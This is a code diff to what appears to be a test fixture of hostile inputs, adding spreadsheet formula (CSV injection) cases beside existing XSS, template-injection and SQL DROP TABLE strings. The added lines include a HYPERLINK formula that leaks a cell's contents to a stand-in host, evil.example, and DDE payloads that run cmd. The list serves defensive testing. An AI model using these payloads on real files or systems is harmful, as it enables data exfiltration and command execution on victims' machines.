@@ -28,6 +28,8 @@ export type HostileKind =
    * the browser must end up on this site.
    */
   | 'redirect'
+  /** Spreadsheet formulas (CSV injection): plain text everywhere, but Excel or LibreOffice runs a CSV cell that starts with one. */
+  | 'formula'
 
 export interface HostileInput {
   name: string
@@ -62,6 +64,11 @@ export const HOSTILE_INPUTS: readonly HostileInput[] = [
   { name: 'XML CDATA end and a fake item', kind: 'xss', text: ']]></title><item><title>injected</title></item><![CDATA[' },
   { name: 'template expressions', kind: 'xss', text: "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1}" },
   { name: 'HTML entities that decode to markup', kind: 'xss', text: '&lt;script&gt;window.__pwned=1&lt;/script&gt; &#60;b&#62;' },
+
+  // Formulas a spreadsheet would run from a CSV cell.
+  { name: 'HYPERLINK formula', kind: 'formula', text: '=HYPERLINK("https://evil.example/?leak="&A1,"click")' },
+  { name: 'DDE command', kind: 'formula', text: "@SUM(1+1)*cmd|' /C calc'!A0" },
+  { name: 'plus-led formula', kind: 'formula', text: '+1+cmd|\' /C notepad\'!A1' },
 
   // SQL and LIKE metacharacters.
   { name: 'quote and DROP TABLE', kind: 'sql', text: "'; DROP TABLE claims; --" },
